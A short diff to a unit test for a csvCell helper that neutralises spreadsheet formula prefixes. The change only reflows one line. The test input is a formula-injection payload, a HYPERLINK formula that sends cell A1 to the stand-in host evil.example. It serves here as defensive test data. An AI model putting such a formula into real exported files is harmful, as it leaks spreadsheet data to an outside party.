@@ -3,7 +3,9 @@ import { csvCell } from "./csvCell";
 
 describe("csvCell", () => {
   it("defuses every formula prefix so spreadsheets show the text instead of running it", () => {
-    expect(csvCell(`=HYPERLINK("http://evil.example/?"&A1,"x")`)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(csvCell(`=HYPERLINK("http://evil.example/?"&A1,"x")`)).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
+    );
     expect(csvCell("+1+1")).toBe("'+1+1");
     expect(csvCell("-2+3")).toBe("'-2+3");
     expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
